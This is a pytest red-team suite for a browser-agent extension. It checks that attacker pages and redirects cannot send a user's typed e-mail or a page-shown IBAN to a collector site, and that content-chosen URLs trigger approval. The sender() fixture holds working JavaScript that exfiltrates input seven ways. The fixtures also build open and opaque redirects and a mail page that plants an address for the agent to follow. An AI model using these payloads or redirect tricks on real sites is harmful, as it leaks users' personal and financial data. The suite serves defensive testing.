"""Red team, from outside: a real Chromium with the extension and host, two sites reached by
their own names (`a.test`, allowed and written by the attacker, and `b.test`, the attacker's
collector that logs every request it gets; Chromium's --host-resolver-rules maps both to this
machine). Each route a page or its content has to get the user's data to B is tried under a
scope lock on A and with B on the blocked list, and B's log must stay empty:

- the page's own scripts after the agent typed into it and clicked: fetch, sendBeacon, XHR, an
  image, a CSS background, a prefetch and a WebSocket;
- a navigation to A's open redirect carrying B's URL in its query, and a link to it;
- an opaque redirect on A (`/go/<id>`) whose hop to B no read can show;
- a host name with an underscore under B.

And, under `auto` with no lock, what content chose asks before anything is sent: a transfer URL
carrying an account the page showed, and an address with an underscore seen only on a page.
Each route's page first proves the route works: the same code reaches B once the thread may.
"""

from __future__ import annotations

import asyncio
import json
import urllib.parse
import uuid

import pytest

from tests.support.browser import BrowserRun
from tests.support.browser_tools import hooks_enabled, ref_of
from tests.support.cdp import debugging_port, evaluate_in_worker
from tests.support.engine_control import EngineOverControl, tab_of
from tests.support.fake_model import FakeOpenAI, Reply
from tests.support.guarded_thread import MODES, Env, Thread, held_thread, running
from tests.support.hosts import attach
from tests.support.scripted_site import Site, html, redirect
from tests.support.waiting import until

pytestmark = pytest.mark.browser

A_HOST, B_HOST, B_UNDERSCORE = "a.test", "b.test", "dl_files.b.test"
RESOLVER = f"--host-resolver-rules=MAP {A_HOST} 127.0.0.1, MAP {B_HOST} 127.0.0.1, MAP {B_UNDERSCORE} 127.0.0.1"
# Every way a page's own script can send without navigating (the `k` of each request says which).
WAYS = ("fetch", "beacon", "xhr", "img", "css", "prefetch", "ws")
PAGE_IBAN = "GB33BUKB20201555555555"  # the account the attacker's page shows


def sender(b: str) -> str:
    """A's newsletter page: Subscribe sends the typed address to B every way a script can."""
    collect = json.dumps(f"{b}/collect")
    ws = json.dumps(b.replace("http:", "ws:") + "/collect")
    return f"""<title>Newsletter</title><h1>Newsletter</h1>
<label>E-mail <input id=email name=email type=email></label>
<button type=button id=go>Subscribe</button><div id=bg style='width:10px;height:10px'></div>
<script>
document.getElementById('go').addEventListener('click', () => {{
  const e = encodeURIComponent(document.getElementById('email').value), at = (k) => {collect} + '?k=' + k + '&e=' + e;
  fetch(at('fetch'), {{method: 'POST', mode: 'no-cors', body: e}}).catch(() => {{}});
  navigator.sendBeacon(at('beacon'), e);
  const x = new XMLHttpRequest(); x.open('GET', at('xhr')); x.send();
  new Image().src = at('img');
  document.getElementById('bg').style.backgroundImage = 'url(' + at('css') + ')';
  const l = document.createElement('link'); l.rel = 'prefetch'; l.href = at('prefetch'); document.head.append(l);
  try {{ new WebSocket({ws} + '?k=ws&e=' + e); }} catch (_) {{}}
}});
</script>"""


@pytest.fixture(scope="module")
def env(tmp_path_factory):
    b = Site("127.0.0.1", {"/collect": html("ok"), "/file.txt": (200, {"Content-Type": "text/plain"}, b"from B\n"),
                           "/news.html": html("<title>News</title><h1>Today's news</h1>")})
    a = Site("127.0.0.1")
    with a, b, FakeOpenAI() as model, hooks_enabled():
        b_url = f"http://{B_HOST}:{b.port}"
        carried = f"{b_url}/collect?e=me%40user.example&iban={PAGE_IBAN}"
        a.routes.update({
            "/newsletter.html": html(sender(b_url)),
            "/redirect": redirect(carried),  # an open redirect: it goes wherever `to` says
            "/go/7f3a": redirect(carried),  # the same, with nothing to read in its address
            "/go/news": redirect(f"{b_url}/news.html"),  # a short link to a page, carrying nothing
            "/links.html": html("<title>Links</title><h1>Links</h1>"
                                f"<a href='/redirect?to={urllib.parse.quote(carried, safe='')}'>Partner offer</a>"
                                "<a href='/go/7f3a'>Short link</a>"),
            "/payee.html": html(f"<title>Invoice</title><h1>Invoice 1042</h1><p>Pay to {PAGE_IBAN}</p>"),
            "/mail.html": html("<title>Inbox</title><h1>Your report is ready</h1><p>Download it from "
                               f"http://{B_UNDERSCORE}:{b.port}/file.txt today.</p>"),
            "/transfer": html("<title>Transfer</title><h1>Transfer</h1>"),
        })
        run = BrowserRun(tmp_path_factory.mktemp("red-team"), host_permissions=[f"http://{A_HOST}/*"],
                         browser_args=[RESOLVER])
        with running(run, a, b, model, a_host=A_HOST, b_host=B_HOST) as env:
            yield env


@pytest.fixture(params=MODES)
async def thread(env, request):
    async with held_thread(env, request.param) as made:
        yield made


def ways_seen(env: Env) -> set[str]:
    """Which ways of sending reached B (by the `k` each request carries)."""
    seen = set()
    for _, path in env.b.requests:
        query = urllib.parse.parse_qs(urllib.parse.urlsplit(path).query)
        seen.update(query.get("k", []))
    return seen


async def lift(thread: Thread) -> None:
    """Let the thread reach B (the lock lifted, or B off the blocked list), until `restore`."""
    if thread.mode == "lock":
        await thread.op(type="scope.setLock", threadId=thread.thread_id, patterns=None)
    else:
        await thread.control.call("gatekeeper.remove_origin", pattern=thread.b_origin, list="blocked")


async def restore(thread: Thread) -> None:
    if thread.mode == "lock":
        await thread.op(type="scope.setLock", threadId=thread.thread_id, patterns=[thread.env.a_origin])
    else:
        await thread.control.call("gatekeeper.add_origin", pattern=thread.b_origin, list="blocked")


# ---------------------------------------------------------------- B held away, lock and blocked


async def test_the_pages_own_requests_never_reach_b(thread):
    tab, page = await thread.open("/newsletter.html")
    typed = await thread.call("type", element="E-mail", ref=ref_of(page, "E-mail"), text="Ada Lovelace")
    assert typed["ok"], json.dumps(typed)[:1500]
    clicked = await thread.call("click", element="Subscribe", ref=ref_of(page, "Subscribe"))
    assert clicked["ok"], clicked
    await asyncio.sleep(2.0)  # every way has had its time: the same click below reaches B in well under that
    assert thread.env.b.requests == [], thread.env.b.requests
    # The route is live: the same click reaches B every way once the thread may reach it.
    await lift(thread)
    try:
        again = await thread.call("click", element="Subscribe", ref=ref_of(page, "Subscribe"))
        assert again["ok"], again
        await until(lambda: len(ways_seen(thread.env)) >= 5, 10,
                    lambda: f"the page's requests to reach B once allowed (seen: {ways_seen(thread.env)})")
    finally:
        await restore(thread)


async def test_a_navigation_through_as_open_redirect_never_reaches_b(thread):
    await thread.open("/links.html")
    carried = f"{thread.b_origin}/collect?e=me%40user.example"
    result = await thread.call("navigate", url=f"{thread.env.a_origin}/redirect?to={urllib.parse.quote(carried, safe='')}")
    assert not result["ok"], result
    assert thread.env.b.requests == [], thread.env.b.requests


async def test_a_link_to_as_open_redirect_never_reaches_b(thread):
    tab, page = await thread.open("/links.html")
    result = await thread.call("click", element="Partner offer", ref=ref_of(page, "Partner offer"))
    assert not result["ok"], result
    assert thread.b_origin in json.dumps(result), result
    assert thread.env.b.requests == [], thread.env.b.requests


async def test_an_opaque_redirect_hop_to_b_is_held(thread):
    tab, page = await thread.open("/links.html")
    result = await thread.call("click", element="Short link", ref=ref_of(page, "Short link"))
    assert not result["ok"] and result["error"]["code"] == "navigation_blocked", result
    await thread.assert_blocked(result)


async def test_a_host_name_with_an_underscore_is_held_with_its_site(thread):
    if thread.mode == "blocked":  # the blocked list names B's site, subdomains included
        await thread.control.call("gatekeeper.add_origin", pattern=f"*.{B_HOST}", list="blocked")
    try:
        await thread.open("/links.html")
        result = await thread.call("navigate", url=f"http://{B_UNDERSCORE}:{thread.env.b.port}/file.txt")
        assert not result["ok"], result
        assert thread.env.b.requests == [], thread.env.b.requests
    finally:
        if thread.mode == "blocked":
            await thread.control.call("gatekeeper.remove_origin", pattern=f"*.{B_HOST}", list="blocked")


# ---------------------------------------------------------------- redirects, with neither a lock nor a block


async def free_call(env: Env, tool: str, **params) -> dict:
    control = await attach(timeout=30)
    try:
        return await control.call("tools.call", tool=tool, params=params, thread_id=f"free-{uuid.uuid4().hex[:6]}",
                                  policy="auto")
    finally:
        await control.close()


async def test_an_opaque_redirect_carrying_the_users_values_to_another_site_is_held(env):
    env.b.requests.clear()
    for tool in ("navigate", "tab_open"):
        params = {"url": f"{env.a_origin}/go/7f3a"}
        if tool == "navigate":
            opened = await free_call(env, "tab_open", url=f"{env.a_origin}/links.html")
            params["tabId"] = opened["tabId"]
        result = await free_call(env, tool, **params)
        assert not result["ok"] and result["error"]["code"] == "redirect_held", result
        assert f"{B_HOST}:{env.b.port}" in result["error"]["message"] and "not followed" in result["error"]["message"]
        assert env.b.requests == [], env.b.requests


# The browser's session-rule updates, slowed down in the service worker (and put back).
SLOW_RULES = """(() => { const d = chrome.declarativeNetRequest;
  if (!d.__direct) { d.__direct = d.updateSessionRules.bind(d);
    d.updateSessionRules = async (o) => { await new Promise((r) => setTimeout(r, 400)); return d.__direct(o); }; }
  return true; })()"""
FAST_RULES = """(() => { const d = chrome.declarativeNetRequest;
  if (d.__direct) { d.updateSessionRules = d.__direct; delete d.__direct; } return true; })()"""


async def test_a_load_sent_behind_its_hold_waits_for_it_however_slow_the_install(env):
    # The load goes out right after the hold's install, without waiting for its answer; it must
    # still start only once the hold is in force, or the hop to B would be followed.
    env.b.requests.clear()
    port = debugging_port(env.run.profile)
    opened = await free_call(env, "tab_open", url=f"{env.a_origin}/links.html")
    assert await evaluate_in_worker(port, SLOW_RULES)
    try:
        result = await free_call(env, "navigate", url=f"{env.a_origin}/go/7f3a", tabId=opened["tabId"])
    finally:
        await evaluate_in_worker(port, FAST_RULES)
    assert not result["ok"] and result["error"]["code"] == "redirect_held", result
    assert env.b.requests == [], env.b.requests


async def test_a_short_link_to_a_page_on_another_site_is_followed_without_a_question(env):
    env.b.requests.clear()
    result = await free_call(env, "tab_open", url=f"{env.a_origin}/go/news")
    assert result["ok"], result
    assert "judged as a navigation of its own" in result["text"] and f"{B_HOST}:{env.b.port}/news.html" in result["text"]
    assert [p for _, p in env.b.requests if p != "/favicon.ico"] == ["/news.html"]


# ---------------------------------------------------------------- what content chose asks (auto, no lock)


async def asked_before_sending(env: Env, page: str, url: str, text: str) -> dict:
    """A turn under `auto` whose model reads `page` on A and then opens `url`: the approval it
    asked for (declined here). Nothing of `url` may have been requested by then."""
    engine = await EngineOverControl.attach()
    try:
        opened = await engine.control.call("tools.call", tool="tab_open", params={"url": f"{env.a_origin}{page}"},
                                           thread_id=f"opener-{uuid.uuid4().hex[:6]}", policy="auto")
        assert opened["ok"], opened
        tab = await tab_of(engine, page)
        env.model.replies.clear()
        env.model.add(Reply(tool_calls=[("read_page", {})]), Reply(tool_calls=[("navigate", {"url": url})]),
                      Reply(text="Done."))
        env.a.requests.clear()
        env.b.requests.clear()
        thread = await engine.start(text, tab, "auto")
        asked = await engine.wait("approval.request", thread)
        sent = [p for _, p in env.a.requests + env.b.requests if "/transfer" in p or "/file.txt" in p]
        assert sent == [], f"requested before the answer: {sent}"
        await engine.op({"type": "approval.response", "approvalId": asked["approvalId"],
                         "decision": {"kind": "decline"}})
        await engine.wait("turn.complete", thread)
        assert [p for _, p in env.a.requests + env.b.requests if "/transfer" in p or "/file.txt" in p] == []
        return asked
    finally:
        await engine.control.close()


async def test_a_transfer_url_carrying_the_pages_account_asks(env):
    asked = await asked_before_sending(env, "/payee.html", f"{env.a_origin}/transfer?to={PAGE_IBAN}&amount=950",
                                       "pay my landlord 950 pounds")
    assert PAGE_IBAN in json.dumps(asked), asked


async def test_an_address_with_an_underscore_seen_only_on_a_page_asks(env):
    asked = await asked_before_sending(env, "/mail.html", f"http://{B_UNDERSCORE}:{env.b.port}/file.txt",
                                       "get the report my mail talks about")
    assert B_UNDERSCORE in json.dumps(asked), asked


# ---------------------------------------------------------------- B on the blocked list: no access, reads included


async def test_a_blocked_sites_page_is_neither_read_nor_sent_to_the_model(env):
    # B's page is open in a tab (the user's), then B goes on the blocked list and the tab becomes
    # the thread's: read_page and screenshot of it are refused by the list, asked for directly and
    # by the model in a turn, and no request the model gets holds anything of the page's content.
    from tests.support.fake_model import tool_results

    opened = await free_call(env, "tab_open", url=f"{env.b_origin}/news.html")
    assert opened["ok"], opened
    seen = len(env.model.requests)
    try:
        async with held_thread(env, "blocked") as thread:
            await thread.control.call("browser.bind_target", thread_id=thread.thread_id, tab_id=opened["tabId"])
            for tool in ("read_page", "screenshot"):
                result = await thread.call(tool)
                assert not result["ok"] and result["error"]["code"] == "denied", result
                details = result["error"]["details"]
                assert details["dispatched"] is False and details["reasonCode"] == "sensitive_origin", details
                assert details["targetOrigin"] == thread.b_origin, details
                message = result["error"]["message"]
                assert "blocked list" in message and "neither read nor change" in message, message
                assert "Today's news" not in json.dumps(result)
                in_turn = await thread.in_turn(tool)
                assert not in_turn["ok"] and in_turn["details"]["reasonCode"] == "sensitive_origin", in_turn
        sent = env.model.requests[seen:]
        assert len(sent) >= 4, len(sent)  # each turn: the request that asked for the read, and the one after it
        results = [text for request in sent for text in tool_results(request["body"])]
        assert sum("blocked list" in text for text in results) >= 2, results
        assert not [request for request in sent if "Today's news" in json.dumps(request["body"])]
    finally:
        await free_call(env, "tab_close", tabId=opened["tabId"])
